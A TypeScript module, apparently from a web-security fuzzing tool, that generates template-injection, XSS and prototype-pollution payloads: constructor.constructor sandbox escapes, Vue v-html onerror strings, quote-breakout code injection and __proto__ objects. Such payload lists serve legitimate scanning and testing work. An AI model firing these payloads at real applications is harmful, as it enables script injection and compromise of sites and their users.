/** What a template language would work out, and names that are more than names in JavaScript. */
import { escapes, type Family, type Maker } from './maker'

const mustaches: readonly Maker[] = [
  () => '{{7*7}}',
  () => '{{ 7 * 7 }}',
  (run) => `{{ ${run} }}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{$el.ownerDocument.defaultView.eval('${run}')}}`,
  (run) => `{{_c.constructor('${run}')()}}`,
  (run) => `{{_openBlock.constructor('${run}')()}}`,
  (run) => `{{toString().constructor.constructor('${run}')()}}`,
  (run) => `{{[].filter.constructor("${escapes(run)}")()}}`,
  (run) => `<div v-html="'<img src=x onerror=${run}>'"></div>`,
  (run) => `<div v-on:click="${run}" @click="${run}">come here</div>`,
  (run) => `<component is="script">${run}</component>`,
  (run) => `<p :style.camel="{x:${run}}" v-bind:innerHTML="'x'">x</p>`,
  (run) => '${' + run + '}',
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `[[${run}]]`,
  (run) => `{%raw%}${run}{%endraw%}`
]

const names: readonly Maker[] = [
  () => '__proto__',
  () => 'constructor.prototype.polluted',
  () => '{"__proto__":{"polluted":true}}',
  () => 'toString',
  () => 'javascript',
  (run) => `';${run};//`,
  (run) => `";${run};//`,
  (run) => '`;' + run + ';//',
  (run) => `\\';${run};//`,
  (run) => `*/${run}/*`,
  (run) => `]]>${run}<![CDATA[`,
  (run) => `setTimeout('${run}')`,
  (run) => `onerror=${run};throw 1`
]

export const templates: readonly Family[] = [
  { name: 'templates', makers: mustaches },
  { name: 'names and quotes', makers: names }
]
